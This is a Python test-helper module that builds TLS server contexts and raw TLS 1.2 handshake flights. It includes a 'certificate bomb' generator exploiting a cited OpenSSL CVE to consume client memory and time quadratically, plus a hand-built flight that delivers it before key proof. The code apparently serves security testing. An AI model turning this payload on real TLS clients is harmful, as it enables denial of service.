"""TLS servers: contexts with certificates, and server flights written by hand."""

from __future__ import annotations

import datetime as dt
import ssl
import struct
from collections.abc import Iterable
from functools import cache

import trustme
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID

_MAX_RECORD_BYTES = 1 << 14
_HANDSHAKE = 22
_SERVER_HELLO, _CERTIFICATE = 2, 11


def server_context(authority: trustme.CA, *names: str) -> ssl.SSLContext:
    """Return the context of a server with a certificate for names and addresses."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    authority.issue_cert(*names).configure_cert(context)
    return context


@cache
def certificate_bomb(count: int) -> bytes:
    """Return a certificate (DER) that takes OpenSSL memory and time by the square of `count`.

    CVE-2026-35189: each CRL distribution point with a relative name gets a copy of the issuer's
    name. Both have `count` parts here; 1,600 make 45 KB.
    """
    unit = x509.NameAttribute(NameOID.ORGANIZATIONAL_UNIT_NAME, "u")
    relative = x509.RelativeDistinguishedName([x509.NameAttribute(NameOID.COMMON_NAME, "a")])
    point = x509.DistributionPoint(
        full_name=None, relative_name=relative, reasons=None, crl_issuer=None
    )
    key = ec.generate_private_key(ec.SECP256R1())
    now = dt.datetime.now(dt.UTC)
    certificate = (
        x509.CertificateBuilder()
        .subject_name(x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "localhost")]))
        .issuer_name(x509.Name([unit] * count))
        .public_key(key.public_key())
        .serial_number(7)
        .not_valid_before(now - dt.timedelta(days=1))
        .not_valid_after(now + dt.timedelta(days=1))
        .add_extension(x509.SubjectAlternativeName([x509.DNSName("localhost")]), critical=False)
        .add_extension(x509.CRLDistributionPoints([point] * count), critical=False)
        .sign(key, hashes.SHA256())
    )
    return certificate.public_bytes(serialization.Encoding.DER)


def server_flight(*certificates: bytes) -> bytes:
    """Return a TLS 1.2 ServerHello and a Certificate message, to send before anything is read.

    A client then reads and verifies the certificates, without any proof of their keys.
    """
    extensions = b"\xff\x01\x00\x01\x00"  # renegotiation_info, which OpenSSL demands
    hello = struct.pack("!H32sBHB", 0x0303, b"r" * 32, 0, 0xC02B, 0)
    hello += struct.pack("!H", len(extensions)) + extensions
    chain = b"".join(_with_size(certificate) for certificate in certificates)
    return in_records([(_SERVER_HELLO, hello), (_CERTIFICATE, _with_size(chain))])


def in_records(messages: Iterable[tuple[int, bytes]]) -> bytes:
    """Return messages of a handshake, given by type and body, as they are sent unencrypted."""
    data = b"".join(bytes([kind]) + _with_size(body) for kind, body in messages)
    return b"".join(
        struct.pack("!BHH", _HANDSHAKE, 0x0303, len(part)) + part
        for part in (
            data[start : start + _MAX_RECORD_BYTES]
            for start in range(0, len(data), _MAX_RECORD_BYTES)
        )
    )


def from_records(flight: bytes) -> list[tuple[int, bytes]]:
    """Return types and bodies of the messages of a handshake that are not encrypted."""
    data = b""
    while flight and flight[0] == _HANDSHAKE:
        end = 5 + int.from_bytes(flight[3:5])
        data += flight[5:end]
        flight = flight[end:]
    messages = []
    while data:
        end = 4 + int.from_bytes(data[1:4])
        messages.append((data[0], data[4:end]))
        data = data[end:]
    return messages


def _with_size(data: bytes) -> bytes:
    return len(data).to_bytes(3) + data
